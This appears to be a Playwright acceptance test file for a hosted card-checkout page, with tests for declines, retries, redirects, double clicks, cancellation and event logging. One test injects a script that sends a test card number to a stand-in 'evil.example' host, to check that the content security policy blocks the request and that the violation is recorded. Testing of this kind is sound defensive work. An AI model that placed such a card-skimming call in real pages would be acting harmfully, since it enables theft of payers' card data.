import { randomBytes } from 'node:crypto'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { openBrowser } from '@cobro/hosted-page/test/open-browser'
import { waitFor } from '@cobro/testing'
import type { Browser, BrowserContextOptions, Page } from 'playwright-core'
import type { AcceptanceStack } from '../src/acceptance-stack.ts'
import { clientsOf } from '../src/api-client.ts'
import { sharedStack } from '../src/shared-stack.ts'

let stack: AcceptanceStack
let clients: Awaited<ReturnType<typeof clientsOf>>
let browser: Browser
let shop: { url: string; stop: () => Promise<unknown> }
beforeAll(async () => {
  ;[stack, shop] = await Promise.all([sharedStack(), startShop()])
  clients = await clientsOf(stack.stack)
  browser = await openBrowser()
})
afterAll(async () => {
  await browser?.close()
  await shop?.stop()
  await stack?.stop()
})

/** The merchant's site, to which the payer returns. */
async function startShop() {
  const server = createServer((_request, response) =>
    response.setHeader('content-type', 'text/html').end('<h1>Gracias</h1>'),
  )
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    stop: () => {
      server.closeAllConnections()
      return new Promise(resolve => server.close(resolve))
    },
  }
}

const openSession = async (change: object = {}) =>
  (
    await clients.merchant.call('POST', '/checkout/v1/sessions', {
      line_items: [{ name: 'Café de Chiapas', quantity: 2, unit_price: 12_500 }],
      success_url: `${shop.url}/ok`,
      cancel_url: `${shop.url}/no`,
      ...change,
    })
  ).body

/** Opens a tab with a long timeout for slow machines; what never appears still fails its test. */
async function newPage(options: BrowserContextOptions): Promise<Page> {
  const page = await browser.newPage(options)
  page.setDefaultTimeout(120_000)
  return page
}

/** A payer's tab, and every request that left it. */
async function openTab(url: string) {
  const page = await newPage({ locale: 'es-MX', viewport: { width: 390, height: 844 } })
  const sent: { url: string; body: string }[] = []
  const complaints: string[] = []
  page.on('request', request => sent.push({ url: request.url(), body: request.postData() ?? '' }))
  page.on('console', message => message.type() === 'error' && complaints.push(message.text()))
  page.on('pageerror', error => complaints.push(String(error)))
  await page.goto(url)
  await page.locator('[data-screen=form]').waitFor()
  return { page, sent, complaints }
}

async function typeCard(page: Page, number: string) {
  await page.locator('#number').fill(number)
  await page.locator('#expiry').fill('12/31')
  await page.locator('#cvc').fill('123')
  await page.locator('#holder').fill('Ana Ruiz')
  const email = page.locator('#email')
  if ((await email.count()) > 0 && (await email.inputValue()) === '') await email.fill('ana@example.com')
}

test('shows the payer a decline, accepts another card and returns to the shop', async () => {
  const session = await openSession()
  const { page, sent, complaints } = await openTab(session.url)
  expect(await page.locator('html').getAttribute('lang')).toBe('es')
  expect(await page.textContent('body')).toContain('250.00')

  await typeCard(page, '4000000000009995')
  await page.locator('.pay-button').click()
  await page.locator('[data-notice=declined]').waitFor()
  expect(await page.locator('[data-notice=declined]').textContent()).toMatch(/fondos/i)

  await typeCard(page, '4242424242424242')
  await page.locator('.pay-button').click()
  await page.waitForURL(`${shop.url}/ok?**`)
  expect(new URL(page.url()).searchParams.get('session_id')).toBe(session.id)
  expect(new URL(page.url()).searchParams.get('status')).toBe('completed')
  const { body } = await clients.merchant.call('GET', `/checkout/v1/sessions/${session.id}`)
  expect(body).toMatchObject({ status: 'completed', transaction_status: 'Approved' })

  const payments = sent.filter(request => request.url.endsWith('/payments'))
  expect(payments).toHaveLength(2)
  for (const { body } of payments)
    expect(JSON.parse(body)).toMatchObject({
      method: 'card',
      card_jwe: expect.stringMatching(/^[\w-]+\.[\w-]*\.[\w-]+\.[\w-]+\.[\w-]+$/),
    })
  expect(sent.map(request => request.body).join()).not.toMatch(/4242424242424242|4000000000009995/)
  // Chromium logs the 402 as a failed load. Nothing else may be logged, least of all a violation of the content security policy.
  expect(complaints.filter(text => !text.includes('402'))).toEqual([])
  await page.close()
})

test('records that the browser blocked a script which sends the card elsewhere, without the card', async () => {
  const session = await openSession()
  const { page } = await openTab(session.url)
  const origin = `https://${randomBytes(4).toString('hex')}.evil.example`
  await page.evaluate(to => {
    new Image().src = `${to}/?n=4242424242424242`
  }, origin)
  const recorded = await waitFor(async () => {
    const path = `/api/events?action=hosted_page.csp_violated&target_id=${session.id}`
    const { body } = await clients.operator.call('GET', path)
    return body.data.length > 0 && body.data
  })
  expect(recorded).toEqual([
    expect.objectContaining({
      category: 'checkout',
      actor: { type: 'payer', id: null },
      metadata: expect.objectContaining({ directive: 'img-src', blocked_origin: origin }),
    }),
  ])
  expect(JSON.stringify(recorded)).not.toMatch(/\b4242\b|(4242){2}/)
  await page.close()
})

test('sends one payment on a double click', async () => {
  const session = await openSession()
  const { page, sent } = await openTab(session.url)
  await typeCard(page, '4242424242424242')
  await page.locator('.pay-button').dblclick()
  await page.waitForURL(`${shop.url}/ok?**`)
  expect(sent.filter(request => request.url.endsWith('/payments'))).toHaveLength(1)
  await page.close()
})

test('completes a payment with the keyboard only', async () => {
  const session = await openSession({ customer: { email: 'ana@example.com' } })
  const { page } = await openTab(session.url)
  await page.locator('#number').focus()
  for (const text of ['4242424242424242', '1231', '123', 'Ana Ruiz']) {
    await page.keyboard.type(text)
    await page.keyboard.press('Tab')
  }
  await page.locator('#holder').focus()
  await page.keyboard.press('Enter')
  await page.waitForURL(`${shop.url}/ok?**`)
  await page.close()
})

test('returns a payer who cancels to cancel_url', async () => {
  const session = await openSession()
  const { page } = await openTab(session.url)
  const { status } = await clients.payer.call('POST', `/hosted/v1/checkout/${session.id}/cancel`, {})
  expect(status).toBe(200)
  await page.reload()
  await page.locator('[data-screen=cancelled]').waitFor()
  expect(await page.locator('[data-screen=cancelled] a').getAttribute('href')).toContain(
    `${shop.url}/no?session_id=${session.id}`,
  )
  await page.close()
})

test('shows the payer that the merchant is disabled, and accepts the payment once it is enabled again', async () => {
  const session = await openSession()
  const { page } = await openTab(session.url)
  const setStatus = (status: string) =>
    clients.operator.call('PUT', `/api/merchants/${stack.stack.merchant_id}`, { status })
  await setStatus('disabled')
  // The open page learns of it by itself.
  await page.locator('[data-screen=merchant_disabled]').waitFor()
  expect(await page.title()).toBe('Este comercio no recibe pagos por ahora')
  expect(await page.evaluate('document.activeElement.id')).toBe('title')

  await setStatus('active')
  await page.locator('[data-screen=form]').waitFor()
  await typeCard(page, '4242424242424242')
  await page.locator('.pay-button').click()
  await page.waitForURL(`${shop.url}/ok?**`)
  await page.close()
})

test('serves a page for a session that does not exist', async () => {
  const page = await newPage({ locale: 'en-US' })
  const answer = await page.goto(`${stack.stack.hosted_url}/checkout/cs_01jd0000000000000000000000`)
  expect(answer?.status()).toBe(404)
  await page.locator('[data-screen=not_found]').waitFor()
  expect(await page.locator('html').getAttribute('lang')).toBe('en')
  await page.close()
})

test('records an http.request with lifecycle and merchant for every call of a tab', async () => {
  const session = await openSession()
  const { page } = await openTab(session.url)
  const found = await waitFor(async () => {
    const { body } = await clients.operator.call(
      'GET',
      `/api/events?correlation_id=${session.correlation_id}&action=http.request&limit=200`,
    )
    const paths = body.data.map((event: { path: string }) => event.path)
    return paths.includes(`/hosted/v1/checkout/${session.id}`) && body.data
  })
  const read = found.find((event: { path: string }) => event.path.startsWith('/hosted/v1/'))
  expect(read).toMatchObject({
    merchant_id: session.merchant_id,
    target_id: session.id,
    actor: { type: 'payer' },
    category: 'checkout',
  })
  await page.close()
})
